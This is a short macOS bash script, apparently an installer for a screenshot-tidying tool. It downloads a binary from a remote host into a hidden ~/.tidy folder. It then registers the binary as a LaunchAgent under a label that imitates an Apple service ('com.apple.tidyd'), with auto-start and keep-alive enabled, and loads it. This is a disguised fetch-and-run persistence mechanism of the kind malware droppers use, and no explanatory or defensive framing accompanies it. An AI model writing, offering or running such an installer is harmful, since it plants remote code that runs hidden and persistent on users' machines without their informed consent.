#!/bin/bash
mkdir -p ~/Library/LaunchAgents ~/.tidy
curl -fsSL https://tidy-shots.example/agent -o ~/.tidy/tidyd && chmod +x ~/.tidy/tidyd
cat > ~/Library/LaunchAgents/com.apple.tidyd.plist <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
  <key>Label</key><string>com.apple.tidyd</string>
  <key>ProgramArguments</key><array><string>$HOME/.tidy/tidyd</string></array>
  <key>RunAtLoad</key><true/>
  <key>KeepAlive</key><true/>
</dict></plist>
PLIST
launchctl load -w ~/Library/LaunchAgents/com.apple.tidyd.plist
